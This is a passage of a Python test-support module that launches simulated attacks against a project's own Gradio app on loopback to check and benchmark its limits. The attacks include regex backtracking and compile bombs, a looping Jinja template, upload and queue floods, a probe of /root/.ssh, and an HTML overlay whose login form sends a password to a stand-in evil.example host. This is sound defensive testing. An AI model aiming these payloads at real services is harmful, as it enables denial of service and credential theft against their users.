"""What one hostile visitor of a public Space can send, run against app.py on loopback.

Shared by `tests/app/test_app_attacks.py` (which asserts the limits) and
`scripts/bench_attacks.py` (which prints the before/after table). Each attack
comes from `ATTACKER`'s address and another visitor, `VICTIM`, parses the
default sample 20 times meanwhile; every figure is wall time on this machine.
Addresses are given as X-Forwarded-For, which the server trusts from loopback
(as from the proxy in front of a Space: the server runs with `proxy_hops` 1).

- `start_server(root, limits)`: app.py of the checkout `root` on a free port.
- `ATTACKS`: (name, function) pairs; a function takes a `Run` and returns an `Outcome`.
- `under_attack(run, attack)`: the attack in a thread and the victim's parses meanwhile, and
  the server's footprint (`Footprint`: the memory of the server and its worker processes, the
  disk its uploads take) before, at its peak and after. A watchdog kills the server when its
  memory passes `KILL_ABOVE_MB` (a checkout without the bounds would take the machine).
- `BOUNDED`: smaller payloads of the attacks that grow without bound on an older checkout,
  for measuring one safely (`scripts/bench_attacks.py --bounded`).
"""

from __future__ import annotations

import json
import math
import os
import re
import shutil
import subprocess
import sys
import tempfile
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

import httpx
import psutil

from engine.authoring.samples import load_samples
from tests.support.app_server import start_app
from tests.support.grammar_bombs import CALL_LIST_TEMPLATE, doubling_tools, many_optional_fields
from tests.support.paths import ROOT

ATTACKER = "10.66.0.1"
VICTIM = "10.2.0.1"
OTHER_CALLER = "10.3.0.1"  # a third visitor (an MCP caller of its own)
# Server and workers together past this (MB): the watchdog kills the server.
KILL_ABOVE_MB = 3000.0
# How long after an attack its footprint is read "after" (seconds): freed memory, ended workers.
SETTLE_SECONDS = 4.0
# Smaller payloads for checkouts without the bounds (set by scripts/bench_attacks.py --bounded).
BOUNDED = {"value": False}
PARSES = 20
# Longest the victim waits for one parse (seconds): past it the parse counts as failed.
VICTIM_PATIENCE = 15.0
# Longest the suite waits for one attacking request (seconds); "before" figures past it read "> N s".
PATIENCE = 60.0

QWEN3 = json.loads((ROOT / "templates" / "qwen3.json").read_text(encoding="utf-8"))[
    "response_template"
]
QWEN3_TEXT = json.dumps(QWEN3, indent=2)
SAMPLE = next(sample for sample in load_samples() if sample.id == "qwen3/text-then-tool-calls")
LOOPING_JINJA = "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"
BACKTRACKING = json.dumps(
    {
        "start_anchor": "<s>",
        "fields": {"thing": {"open_pattern": "(a|aa)+$", "close": "</x>"}, "content": {}},
    }
)
LOOKAHEAD = json.dumps(
    {
        "start_anchor": "<s>",
        "fields": {
            "x": {"open_pattern": "<x>(?=(?:(?:a|aa)+d)?)", "close": "</x>", "repeats": True},
            "content": {},
        },
    }
)
LOOKAHEAD_GENERATION = ("<x>" + "a" * 28 + "c</x>") * 40
OBJECT_CONTENT = json.dumps({"start_anchor": "<s>", "fields": {"content": {"content": {"x": 1}}}})
OVERLAY = (
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:9999">'
    '<form action="//evil.example/steal"><input name="password"><button>Log in</button></form>'
    '<img src="//evil.example/pixel.png"></div>'
)


@dataclass
class Outcome:
    """What the attacking requests got: the longest one's wall time (None: still running at
    `PATIENCE`), what it said, and how many requests were refused at once."""

    seconds: float | None
    said: str
    refused: int = 0
    details: dict = field(default_factory=dict)


@dataclass
class Run:
    """A running server: its process, URL, a scratch folder for model copies (removed with the
    server when `start_server` made it), and the folder Gradio keeps its uploads and downloads
    in (GRADIO_TEMP_DIR)."""

    process: subprocess.Popen
    url: str
    scratch: Path
    files: Path | None = None
    own_scratch: bool = False


def start_server(root: Path = ROOT, limits: dict | None = None, scratch: Path | None = None) -> Run:
    """app.py of checkout `root` on loopback, with PLAYGROUND_LIMITS `limits` (and `proxy_hops` 1,
    as on a Space: each visitor's address is its X-Forwarded-For); waits until it answers."""
    own_scratch = scratch is None
    scratch = scratch or Path(tempfile.mkdtemp(prefix="attack-models-"))
    files = Path(tempfile.mkdtemp(prefix="attack-gradio-files-"))
    env = {
        "GRADIO_TEMP_DIR": str(files),
        "TMPDIR": str(files),  # the app's own folders (downloads) are counted with Gradio's
        "HF_HUB_OFFLINE": "1",
        "PYTHONPATH": str(root),
        "PLAYGROUND_LIMITS": json.dumps({"proxy_hops": 1, **(limits or {})}),
    }
    process, url = start_app(env, root, patience=180)
    return Run(process, url, scratch, files, own_scratch)


def wait_for_spare(run: Run, timeout: float = 180) -> bool:
    """Wait until the server's spare worker process has done its imports (it then sleeps on its
    stdin); False when there is none or it took longer than `timeout`. (Older checkouts ran their
    spare as playground.authoring.chat_template_check.)"""
    ends = time.monotonic() + timeout
    while time.monotonic() < ends:
        spares = [
            p
            for p in psutil.Process(run.process.pid).children()
            if any(
                name in " ".join(p.cmdline())
                for name in (
                    "playground.server.workers",
                    "playground.authoring.chat_template_check",
                )
            )
        ]
        # Importing, it runs (or waits to run); done, it sleeps on its stdin.
        if spares and all(p.cpu_times().user > 1 for p in spares) and _asleep(spares):
            return True
        time.sleep(1)
    return False


def _asleep(processes: list, looks: int = 10) -> bool:
    for _ in range(looks):
        if any(p.status() != psutil.STATUS_SLEEPING for p in processes):
            return False
        time.sleep(0.2)
    return True


def stop_server(run: Run) -> None:
    children = (
        psutil.Process(run.process.pid).children(recursive=True)
        if run.process.poll() is None
        else []
    )
    run.process.terminate()
    try:
        run.process.wait(timeout=15)
    except subprocess.TimeoutExpired:
        run.process.kill()
        run.process.wait()
    for child in children:  # workers the server left (a killed server cannot end them)
        try:
            child.kill()
        except psutil.NoSuchProcess:
            pass
    if run.files is not None:
        shutil.rmtree(run.files, ignore_errors=True)
    if run.own_scratch:
        shutil.rmtree(run.scratch, ignore_errors=True)


def memory_mb(run: Run) -> tuple[float, float]:
    """(server RSS, its worker processes' RSS) in MB."""
    server = psutil.Process(run.process.pid)
    workers = 0
    for child in server.children(recursive=True):
        try:
            workers += child.memory_info().rss
        except psutil.Error:  # ended meanwhile
            pass
    return server.memory_info().rss / 1e6, workers / 1e6


def disk_mb(run: Run) -> float:
    """What the server's folders hold (MB): Gradio's uploads and cache, and the app's downloads
    (its TMPDIR)."""
    total = 0
    for folder, _, names in os.walk(run.files) if run.files is not None else ():
        for name in names:
            try:
                total += os.stat(os.path.join(folder, name)).st_size
            except OSError:
                pass
    return total / 1e6


def worker_processes(run: Run) -> list[psutil.Process]:
    """The server's worker processes alive now (the spare included)."""
    found = []
    for child in psutil.Process(run.process.pid).children(recursive=True):
        try:
            if child.status() != psutil.STATUS_ZOMBIE and any(
                name in " ".join(child.cmdline())
                for name in (
                    "playground.server.workers",
                    "playground.authoring.chat_template_check",
                )
            ):
                found.append(child)
        except psutil.Error:
            pass
    return found


@dataclass
class Footprint:
    """What an attack cost the server: memory of the server and its workers together (MB) and
    the disk of its uploads (MB), each (before, peak, after); the worker processes left running
    after it beyond the spare; and why the watchdog killed the server ("" when it did not)."""

    memory_mb: tuple[float, float, float]
    disk_mb: tuple[float, float, float]
    workers_left: int
    killed: str = ""


class _Watch:
    """Samples the server's memory and disk every 0.1 s until stopped; kills the server (and its
    workers) when their memory passes `KILL_ABOVE_MB`."""

    def __init__(self, run: Run) -> None:
        self.run = run
        self.memory = [sum(memory_mb(run))]
        self.disk = [disk_mb(run)]
        self.killed = ""
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._sample, daemon=True)
        self._thread.start()

    def _sample(self) -> None:
        turn = 0
        while not self._stop.is_set() and self.run.process.poll() is None:
            try:
                total = sum(memory_mb(self.run))
            except psutil.Error:
                break
            self.memory.append(total)
            if total > KILL_ABOVE_MB:
                self.killed = f"killed by the watchdog at {total:,.0f} MB"
                for process in [
                    *psutil.Process(self.run.process.pid).children(recursive=True),
                    psutil.Process(self.run.process.pid),
                ]:
                    try:
                        process.kill()
                    except psutil.Error:
                        pass
                break
            turn += 1
            if turn % 3 == 0:
                self.disk.append(disk_mb(self.run))
            time.sleep(0.1)

    def footprint(self, settle: float = SETTLE_SECONDS) -> Footprint:
        """Stop sampling; read "after" once the server settled (`settle` seconds)."""
        if self.run.process.poll() is None and not self.killed:
            time.sleep(settle)
        self._stop.set()
        self._thread.join(timeout=5)
        alive = self.run.process.poll() is None
        after_memory = sum(memory_mb(self.run)) if alive else 0.0
        after_disk = disk_mb(self.run)
        left = max(0, len(worker_processes(self.run)) - 1) if alive else 0
        return Footprint(
            (self.memory[0], max(self.memory + [after_memory]), after_memory),
            (self.disk[0], max(self.disk + [after_disk]), after_disk),
            left,
            self.killed or ("" if alive else "the server stopped"),
        )


def client(run: Run, address: str, timeout: float = PATIENCE) -> httpx.Client:
    return httpx.Client(base_url=run.url, headers={"X-Forwarded-For": address}, timeout=timeout)


def join(run: Run, endpoint: str, data: list, address: str = ATTACKER) -> tuple[int, str]:
    """POST /gradio_api/call/<endpoint>: (HTTP status, the event id or the refusal's detail)."""
    with client(run, address, 30) as http:
        joined = http.post(  # ASCII JSON, as any client may send it (a lone surrogate escaped)
            f"/gradio_api/call/{endpoint}",
            content=json.dumps({"data": data}).encode("ascii"),
            headers={"content-type": "application/json"},
        )
    if joined.status_code != 200:
        try:
            return joined.status_code, str(joined.json().get("detail"))
        except ValueError:
            return joined.status_code, joined.text
    return 200, joined.json()["event_id"]


def result_of(
    run: Run, endpoint: str, event_id: str, address: str = ATTACKER, timeout: float = PATIENCE
) -> object:
    """The result of a joined call (a generator's last update), or None when it did not come within `timeout`."""
    result: object = None
    try:
        with (
            client(run, address, timeout) as http,
            http.stream("GET", f"/gradio_api/call/{endpoint}/{event_id}") as stream,
        ):
            kind = ""
            for line in stream.iter_lines():
                if line.startswith("event:"):
                    kind = line[6:].strip()
                elif line.startswith("data:") and kind in ("generating", "complete", "error"):
                    payload = json.loads(line[5:]) if line[5:].strip() not in ("", "null") else None
                    if kind == "error":
                        return {"error": f"the listener failed: {payload}"}
                    if (
                        isinstance(payload, list) and payload
                    ):  # a generator's last update is its result
                        result = payload[-1]
                    if kind == "complete":
                        break
    except httpx.TimeoutException:
        return None
    return result


def call(
    run: Run, endpoint: str, data: list, address: str = ATTACKER, timeout: float = PATIENCE
) -> tuple[int, object, float]:
    """POST /gradio_api/call/<endpoint> and read its result: (HTTP status of the join, the result or
    the refusal's detail, seconds until the result, None when it did not come within `timeout`)."""
    started = time.perf_counter()
    status, event = join(run, endpoint, data, address)
    if status != 200:
        return status, event, time.perf_counter() - started
    result = result_of(run, endpoint, event, address, timeout)
    return 200, result, None if result is None else time.perf_counter() - started


def parse_seconds(run: Run, address: str = VICTIM) -> float | None:
    """One /parse of the default sample: its seconds, or None when it failed or was refused (a
    server too busy to take the request counts as failed)."""
    try:
        status, result, seconds = call(
            run,
            "parse",
            [QWEN3_TEXT, SAMPLE.prefix, SAMPLE.generation, ""],
            address,
            VICTIM_PATIENCE,
        )
    except httpx.HTTPError:
        return None
    if status != 200 or not isinstance(result, dict) or result.get("message") != SAMPLE.expected:
        return None
    return seconds


def p95(seconds: list[float | None]) -> float | None:
    """The 95th percentile by nearest rank (the 19th of 20), None when more than that many failed
    (a failed or refused parse counts as unbounded)."""
    rank = max(1, math.ceil(0.95 * len(seconds)))
    ordered = sorted(seconds, key=lambda s: float("inf") if s is None else s)
    return ordered[rank - 1] if seconds else None


@dataclass
class Row:
    attack: str
    outcome: Outcome
    victim: list[float | None]
    memory: tuple[float, float]
    footprint: Footprint | None = None

    @property
    def victim_p95(self) -> float | None:
        return p95(self.victim)


def _victim_main(url: str, parses: int) -> None:
    """The victim, in a process of its own (a visitor on another machine: the attacker's client
    threads must not slow its client): waits for a line on stdin, then prints its parse times."""
    run = Run(None, url, Path(tempfile.gettempdir()))  # type: ignore[arg-type]
    parse_seconds(run)  # connect once, as an open page has
    print("ready", flush=True)
    sys.stdin.readline()
    found: list[float | None] = []
    while len(found) < parses:
        found.append(parse_seconds(run))
        if found[-2:] == [None, None]:  # the server does not answer: the rest would fail as well
            found += [None] * (parses - len(found))
    print(json.dumps(found), flush=True)


def under_attack(run: Run, name: str, attack, lead: float = 1.0) -> Row:
    """Start `attack(run)` in a thread, let it run `lead` seconds, then time the victim's parses
    (from a process of its own)."""
    victim_process = subprocess.Popen(
        [sys.executable, "-m", "tests.support.attacks", run.url, str(PARSES)],
        cwd=ROOT,
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
    )
    try:
        assert victim_process.stdout.readline().strip() == "ready"
        watch = _Watch(run)
        outcome: list[Outcome] = []
        thread = threading.Thread(target=lambda: outcome.append(_attempt(attack, run)), daemon=True)
        thread.start()
        time.sleep(lead)
        victim_process.stdin.write("go\n")
        victim_process.stdin.flush()
        victim = json.loads(victim_process.stdout.readline())
        victim_process.wait(timeout=30)
    finally:  # the victim ends with the row, and its pipes are closed (none left to the exit)
        if victim_process.poll() is None:
            victim_process.kill()
            victim_process.wait()
        victim_process.stdin.close()
        victim_process.stdout.close()
    thread.join(PATIENCE + 30)
    if thread.is_alive():  # the attack is still waiting: its requests are past PATIENCE
        outcome.append(Outcome(None, f"still running after {PATIENCE + 30:g} s"))
    found = outcome[0]
    footprint = watch.footprint(SETTLE.get(name, SETTLE_SECONDS))
    alive = run.process.poll() is None
    return Row(name, found, victim, memory_mb(run) if alive else (0.0, 0.0), footprint)


def _attempt(attack, run: Run) -> Outcome:
    """`attack(run)`, or what stopped it (a server the watchdog killed refuses connections)."""
    try:
        return attack(run)
    except Exception as error:  # noqa: BLE001 - the row says what happened
        return Outcome(None, f"the attack stopped: {type(error).__name__}: {str(error)[:200]}")


def _longest(results: list[tuple[int, object, float | None]]) -> Outcome:
    admitted = [r for r in results if r[0] == 200]
    refused = len(results) - len(admitted)
    if not admitted:
        return Outcome(0.0, str(results[0][1]), refused)
    slowest = max(admitted, key=lambda r: float("inf") if r[2] is None else r[2])
    result = slowest[1]
    said = result.get("error") or result.get("status") if isinstance(result, dict) else result
    return Outcome(
        slowest[2],
        str(said)[:300],
        refused,
        {"refusal": next((str(r[1]) for r in results if r[0] != 200), "")},
    )


# -- the attacks -----------------------------------------------------------------------


def queue_flood(run: Run) -> Outcome:
    """66 chat-template checks of a template that loops for hours, all sent within about a second,
    then their results awaited (each timed from its own request)."""
    started = time.perf_counter()

    def sent(_) -> tuple[float, tuple[int, str]]:
        return time.perf_counter(), join(
            run, "conformance", [QWEN3_TEXT, LOOPING_JINJA, "", "", ""]
        )

    with ThreadPoolExecutor(max_workers=33) as pool:
        joined = list(pool.map(sent, range(66)))
    sending = time.perf_counter() - started

    def awaited(request: tuple[float, tuple[int, str]]) -> tuple[int, object, float | None]:
        at, (status, answer) = request
        if status != 200:
            return status, answer, time.perf_counter() - at
        result = result_of(run, "conformance", answer, timeout=PATIENCE)
        return 200, result, None if result is None else time.perf_counter() - at

    with ThreadPoolExecutor(max_workers=66) as pool:
        outcome = _longest(list(pool.map(awaited, joined)))
    outcome.details["sent_seconds"] = sending
    return outcome


def _page(run: Run, address: str = ATTACKER):
    from tests.support.load_sessions import PageVisitor

    return PageVisitor(run.url, timeout=PATIENCE, headers={"X-Forwarded-For": address})


def _page_runs(run: Run, listener: str, values: dict, pages: int) -> Outcome:
    from tests.support.load_sessions import PageFailure, PageRefused

    def one(_):
        page = _page(run)
        started = time.perf_counter()
        try:
            outputs = page.run(listener, values, timeout=PATIENCE)
            said = next(
                (
                    v
                    for o in reversed(outputs)
                    for k, v in o.items()
                    if v and k in ("reference", "status", "fits")
                ),
                "",
            )
            said = " ".join(re.sub(r"<[^>]+>", " ", str(said)).split())
            said = (
                said[said.rindex("error:") :] if "error:" in said else said
            )  # the last side that failed says why
            return 200, said, time.perf_counter() - started
        except PageRefused as error:
            return 503, str(error), time.perf_counter() - started
        except PageFailure as error:
            return 200, str(error), time.perf_counter() - started
        except Exception:  # noqa: BLE001 - still running at PATIENCE
            return 200, "still running", None
        finally:
            page.close()

    with ThreadPoolExecutor(max_workers=pages) as pool:
        return _longest(list(pool.map(one, range(pages))))


def reference_backtracking(run: Run) -> Outcome:
    """Eight "vs transformers" comparisons whose open pattern backtracks without end in transformers' regex."""
    values = {
        "template-editor": BACKTRACKING,
        "prefix": "<s>",
        "generation": "a" * 36 + "b",
        "tools": "",
    }
    return _page_runs(run, "page_compare_reference", values, 8)


def lookahead_parse(run: Run) -> Outcome:
    """Eight /parse of 40 regions whose open pattern's lookahead backtracks inside the regex budget."""
    data = [LOOKAHEAD, "", LOOKAHEAD_GENERATION, ""]
    with ThreadPoolExecutor(max_workers=8) as pool:
        return _longest(list(pool.map(lambda _: call(run, "parse", data), range(8))))


def _big_generation(size: int) -> str:
    call_text = '<tool_call>\n{"name": "get_weather", "arguments": {"city": "Paris", "days": 3}}\n</tool_call>\n'
    words = "The weather in Paris is mild today, with a light breeze from the west. "
    body = (
        "<think>\n"
        + words * (size // (4 * len(words)))
        + "\n</think>\n\n"
        + words * (size // (4 * len(words)))
    )
    return body + call_text * max(1, (size - len(body)) // len(call_text))


def big_replay(run: Run, size: int = 792_000) -> Outcome:
    """A harmless /replay of a big paste, a character at a time."""
    status, result, seconds = call(
        run, "replay", [QWEN3_TEXT, "", _big_generation(size), "", "chars:1"], timeout=PATIENCE * 5
    )
    said = (
        (result.get("error") or f"{result.get('chunks')} chunks; {result['stream_check']['label']}")
        if isinstance(result, dict)
        else str(result)
    )
    return Outcome(seconds, said[:300], 0 if status == 200 else 1)


def _generate(user: str, model: str = "") -> list:
    """The /generate arguments: one token of `user`'s answer from `model` (default: the demo model)."""
    return [user, model, "", "", "", False, 1, 0.7, 0.9, 0, ""]


def long_user_message(run: Run) -> Outcome:
    """Generate live with a 64,000-character user message."""
    status, result, seconds = call(
        run, "generate", _generate("word " * 12_800), timeout=PATIENCE * 3
    )
    said = result.get("error") or "generated" if isinstance(result, dict) else str(result)
    return Outcome(seconds, str(said)[:300], 0 if status == 200 else 1)


def model_copy(run: Run, name: str, chat_template: str | None = None) -> Path:
    """A copy of the demo model under the scratch folder (with another chat template when given)."""
    folder = run.scratch / name
    if not folder.exists():
        shutil.copytree(ROOT / "samples" / "demo-model", folder)
        if chat_template is not None:
            (folder / "chat_template.jinja").write_text(chat_template, encoding="utf-8")
    return folder


def looping_chat_template(run: Run) -> Outcome:
    """Generate live with a model whose chat template loops."""
    folder = model_copy(
        run,
        "looping",
        "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
    )
    status, result, seconds = call(run, "generate", _generate("Hi", str(folder)), timeout=PATIENCE)
    said = (
        (result.get("error") or "generated")
        if isinstance(result, dict)
        else f"no answer ({result})"
    )
    return Outcome(seconds, str(said)[:300], 0 if status == 200 else 1)


def stopped_loads(run: Run) -> Outcome:
    """Eight model folders, each loaded by a Generate that is stopped at once."""
    from tests.support.load_sessions import PageFailure

    before = memory_mb(run)[0]
    started = time.perf_counter()
    said = ""
    for number in range(8):
        page = _page(run)
        try:
            future = page.start(
                "page_generate",
                {"model-name": str(model_copy(run, f"copy-{number}")), "user": "Hi"},
            )
            time.sleep(0.3)
            page.run("page_request_stop")
            outputs = future.result(timeout=PATIENCE)
            status = outputs[-1].get("status")
            said = " ".join(re.sub(r"<[^>]+>", " ", str(status)).split()) if status else said
        except PageFailure as error:
            said = str(error)
        finally:
            page.close()
    time.sleep(15)  # the loads that went on end meanwhile
    grown = memory_mb(run)[0] - before
    return Outcome(
        time.perf_counter() - started,
        f"{said[-200:]} (server memory {grown:+.0f} MB after the loads ended)",
        details={"grown_mb": grown},
    )


def big_upload(run: Run, megabytes: int = 200) -> Outcome:
    """A 200 MB file upload."""
    started = time.perf_counter()
    blob = b"x" * (megabytes * 1_000_000)
    try:
        with client(run, ATTACKER) as http:
            answer = http.post(
                "/gradio_api/upload", files={"files": ("big.json", blob, "application/json")}
            )
        said, status = answer.text[:200], answer.status_code
    except httpx.HTTPError as error:
        said, status = f"connection closed ({type(error).__name__})", 413
    return Outcome(
        time.perf_counter() - started, f"HTTP {status}: {said}", 0 if status == 200 else 1
    )


def many_sessions(run: Run, sessions: int = 30, size: int = 1_000_000) -> Outcome:
    """Sessions of our own choosing, each stepping a 1 MB paste once and keeping it."""
    from tests.support.load_sessions import PageFailure

    generation = _big_generation(size)
    before = memory_mb(run)[0]
    started = time.perf_counter()
    pages, said, refused = [], "", 0
    for _ in range(sessions):
        page = _page(run)
        pages.append(page)
        try:
            outputs = page.run(
                "page_replay_step",
                {
                    "generation": generation,
                    "prefix": "",
                    "template-editor": QWEN3_TEXT,
                    "chunking": "chars",
                    "chunk-size": 1000,
                },
            )
            said = outputs[-1].get("status") or said
        except PageFailure as error:
            said, refused = str(error), refused + 1
    grown = memory_mb(run)[0] - before
    for page in pages:
        page.close()
    return Outcome(
        time.perf_counter() - started,
        f"server memory {grown:+.0f} MB with {sessions} sessions open",
        refused,
        {"grown_mb": grown},
    )


def folder_probe(run: Run) -> Outcome:
    """/conformance naming a folder that exists (/root/.ssh, or a folder with a chat_template.jinja) and one that does not."""
    started = time.perf_counter()
    answers = {}
    # Outside any folder the server allows; removed after the probe.
    with tempfile.TemporaryDirectory(prefix="secret-") as secret:
        (Path(secret) / "chat_template.jinja").write_text("SECRET {{ messages }}", encoding="utf-8")
        for folder in ("/root/.ssh", secret, "/root/.no-such-folder-here"):
            status, result, _ = call(run, "conformance", [QWEN3_TEXT, "", folder, "", ""])
            answers[folder] = str(result.get("error") if isinstance(result, dict) else result)
    texts = {
        text.replace(folder, "X").replace("(a server path)", "X")
        for folder, text in answers.items()
    }
    read = (
        "SECRET" in json.dumps(answers)
        or "situations" in json.dumps(answers)
        or any("passed" in t for t in texts)
    )
    said = (
        "the same answer for all three"
        if len(texts) == 1
        else f"{len(texts)} different answers: {sorted(texts)}"[:300]
    )
    return Outcome(
        time.perf_counter() - started,
        said,
        details={"answers": answers, "distinct": len(texts), "read": read},
    )


def chat_injection(run: Run) -> Outcome:
    """A deep link whose generation draws a full-page overlay with a form and a remote image in the chat view."""
    from playground.authoring.share import encode_state

    page = _page(run)
    started = time.perf_counter()
    try:
        outputs = page.open(
            {"sample": "qwen3/text-then-tool-calls", "state": encode_state({"generation": OVERLAY})}
        )
        chat = json.dumps(outputs[-1].get("chat"))
    finally:
        page.close()
    raw = "<div style" in chat or "<img src" in chat or "<form" in chat
    return Outcome(
        time.perf_counter() - started,
        "HTML drawn as markup" if raw else "shown as text",
        details={"raw": raw},
    )


def hygiene(run: Run) -> Outcome:
    """Inputs whose messages used to show server paths or Python exception types, and inputs read before their cap."""
    started = time.perf_counter()
    said = {}
    _, result, _ = call(run, "parse", [OBJECT_CONTENT, "", "hi", ""])
    said["content object"] = str(result.get("error") if isinstance(result, dict) else result)
    _, result, _ = call(run, "generate", _generate("Hi", "/root/.cache"))
    said["model folder"] = str(result.get("error") if isinstance(result, dict) else result)
    page = _page(run)
    try:
        said["nested state"] = str(page.open({"state": _nested_state()})[-1].get("status"))
    finally:
        page.close()
    status, result, seconds = call(run, "export", [QWEN3_TEXT, "{" + " " * 50_000_000 + "}"])
    said["50 MB tokenizer_config"] = (
        f"HTTP {status}: {(result.get('error') if isinstance(result, dict) else result)}"[:200]
    )
    return Outcome(time.perf_counter() - started, json.dumps(said)[:600], details={"said": said})


def _nested_state() -> str:
    import base64
    import zlib

    return base64.urlsafe_b64encode(zlib.compress(b"[" * 200_000, 9)).decode("ascii").rstrip("=")


# -- round two: costs outside every budget --------------------------------------------------


def with_pattern(pattern: str) -> str:
    """A template whose one explicit field opens on `pattern` (the issue's `T(x)`, our own keys)."""
    return json.dumps(
        {
            "start_anchor": "<s>",
            "fields": {"probe": {"open_pattern": pattern, "close": "</p>"}, "content": {}},
        }
    )


def _said(result: object) -> str:
    if isinstance(result, dict):
        return str(result.get("error") or result.get("status") or "answered")
    if isinstance(result, list) and result and isinstance(result[0], dict):
        return str(result[0].get("message"))
    return str(result)


def compile_bombs(run: Run) -> Outcome:
    """Counted repeats that the regex module writes out when it compiles, through every entrance:
    /parse, /lint, /conformance, the editor's live check and a share link (the outcome's seconds
    are the slowest entrance's)."""
    from playground.authoring.share import encode_state

    count = 1_000_000 if BOUNDED["value"] else 3_999_999_999
    said, took = {}, {}

    def entrance(name: str, ask) -> None:
        started = time.perf_counter()
        said[name] = " ".join(str(ask()).split())[:240]
        took[name] = time.perf_counter() - started

    entrance(
        "parse",
        lambda: _said(call(run, "parse", [with_pattern(f"(?:xy){{{count}}}"), "", "xy", ""])[1]),
    )
    entrance("lint", lambda: _said(call(run, "lint", [with_pattern(f"[0-9]{{{count - 1}}}")])[1]))
    if not BOUNDED["value"]:  # each entrance keeps its compiled pattern on an older checkout
        chat = [with_pattern(f"z{{{count - 2}}}"), "{{ messages }}", "", "", ""]
        entrance("conformance", lambda: _said(call(run, "conformance", chat)[1]))
        page = _page(run)
        try:
            typed = {"template-editor": with_pattern(f"q{{{count - 3}}}")}
            entrance(
                "editor",
                lambda: re.sub(
                    r"<[^>]+>",
                    " ",
                    str(page.run("page_diagnose", typed)[-1].get("template-diagnostics")),
                ),
            )
            state = encode_state({"template": with_pattern(f"w{{{count - 4}}}")})
            entrance(
                "share link",
                lambda: re.sub(r"<[^>]+>", " ", str(page.open({"state": state})[-1].get("status"))),
            )
        finally:
            page.close()
    return Outcome(
        max(took.values()), said["parse"], details={"said": said, "count": count, "seconds": took}
    )


def kept_templates(run: Run) -> Outcome:
    """Many distinct templates, each as heavy as a template may be: none is kept after its request."""
    started = time.perf_counter()
    big = 400_000 if BOUNDED["value"] else 2_500_000
    said = []
    for number in range(5 if BOUNDED["value"] else 10):
        _, result, _ = call(run, "parse", [with_pattern(f"k{{{big + number}}}"), "", "k", ""])
        said.append(_said(result))
    if not BOUNDED["value"]:
        for number in range(40):  # just under the bounds: 9 patterns of 9,000 pieces
            fields = {
                f"f{i}": {"open_pattern": f"<{number}.{i}>" + "m{9000}", "close": "</f>"}
                for i in range(9)
            }
            template = json.dumps({"start_anchor": "<s>", "fields": {**fields, "content": {}}})
            call(run, "parse", [template, "", "text", ""])
    return Outcome(time.perf_counter() - started, said[0][:300], details={"said": said})


def amplified_answer(run: Run) -> Outcome:
    """A transform that repeats a large value thousands of times, on a large value."""
    copies, size = (500, 100_000) if BOUNDED["value"] else (4_000, 999_990)
    template = json.dumps(
        {
            "start_anchor": "<s>",
            "fields": {"big": {"open": "<b>", "transform": {"v": ["{content}"] * copies}}},
        }
    )
    started = time.perf_counter()
    status, result, seconds = call(
        run, "parse", [template, "", "<b>" + "w" * size, ""], timeout=PATIENCE * 2
    )
    answer = len(json.dumps(result)) if result is not None else 0
    return Outcome(
        seconds if seconds is not None else None,
        f"{_said(result)} (answer {answer / 1e6:,.1f} MB)",
        0 if status == 200 else 1,
        {"answer_mb": answer / 1e6, "started": started},
    )


def many_regions(run: Run) -> Outcome:
    """Four parallel /parse of a million characters of tiny repeated regions."""
    template = json.dumps(
        {
            "start_anchor": "<s>",
            "fields": {"r": {"open": "<r>", "close": "</r>", "repeats": True}, "content": {}},
        }
    )
    data = [template, "", "<r>1</r>" * 124_000, ""]
    with ThreadPoolExecutor(max_workers=4) as pool:
        outcome = _longest(list(pool.map(lambda _: call(run, "parse", data), range(4))))
    return outcome


def slow_lint(run: Run) -> Outcome:
    """Lint of a start anchor pattern that backtracks on a delimiter of the template, four at once
    over the API, and typed into the editor."""
    template = json.dumps(
        {
            "start_anchor_pattern": "(?:b|bb)+d",
            "fields": {"held": {"open": "b" * 80, "close": "</h>"}, "content": {}},
        }
    )

    def lint_once(_):
        return call(run, "lint", [template], timeout=PATIENCE)

    def editor(_):
        page = _page(run)
        started = time.perf_counter()
        try:
            outputs = page.run("page_diagnose", {"template-editor": template}, timeout=PATIENCE)
            text = re.sub(r"<[^>]+>", " ", str(outputs[-1].get("template-diagnostics")))
            return 200, {"status": " ".join(text.split())}, time.perf_counter() - started
        except Exception as error:  # noqa: BLE001 - still running at PATIENCE, or refused
            return 200, {"status": str(error)}, None
        finally:
            page.close()

    with ThreadPoolExecutor(max_workers=5) as pool:
        results = list(pool.map(lint_once, range(4))) + [pool.submit(editor, 0).result()]
    return _longest(results)


LONE_SURROGATE = "\ud800"


def surrogate_jobs(run: Run) -> Outcome:
    """/conformance and /generate with a lone surrogate in a text field, many times."""
    calls = 3 if BOUNDED["value"] else 16
    started = time.perf_counter()
    said = ""
    refused = 0
    for number in range(calls):
        if number % 2:
            status, result, _ = call(
                run, "conformance", [QWEN3_TEXT, "{{ messages }}" + LONE_SURROGATE, "", "", ""]
            )
        else:
            status, result, _ = call(run, "generate", _generate("Hi " + LONE_SURROGATE))
        said = said or _said(result)
        refused += status != 200
    return Outcome(time.perf_counter() - started, said[:300], refused, {"calls": calls})


def upload_flood(run: Run) -> Outcome:
    """Uploads of 19 MB files (each a different one), as fast as one client sends them for a minute."""
    uploads = 20 if BOUNDED["value"] else 190
    started = time.perf_counter()
    statuses: dict[int, int] = {}
    said = ""
    with client(run, ATTACKER, 60) as http:
        for number in range(uploads):
            if time.perf_counter() - started > 60:
                break
            blob = number.to_bytes(4, "big") * (19_000_000 // 4)
            try:
                answer = http.post(
                    "/gradio_api/upload",
                    files={"files": (f"u{number}.bin", blob, "application/octet-stream")},
                )
                statuses[answer.status_code] = statuses.get(answer.status_code, 0) + 1
                if answer.status_code != 200 and not said:
                    said = f"HTTP {answer.status_code}: {answer.text[:240]}"
            except httpx.HTTPError as error:
                statuses[-1] = statuses.get(-1, 0) + 1
                said = said or f"connection closed ({type(error).__name__})"
    accepted = statuses.get(200, 0)
    return Outcome(
        time.perf_counter() - started,
        said or f"all {accepted} accepted",
        uploads - accepted,
        {"statuses": statuses, "accepted_mb": accepted * 19},
    )


def _mcp_call(
    run: Run, address: str, tool: str, arguments: dict, timeout: float
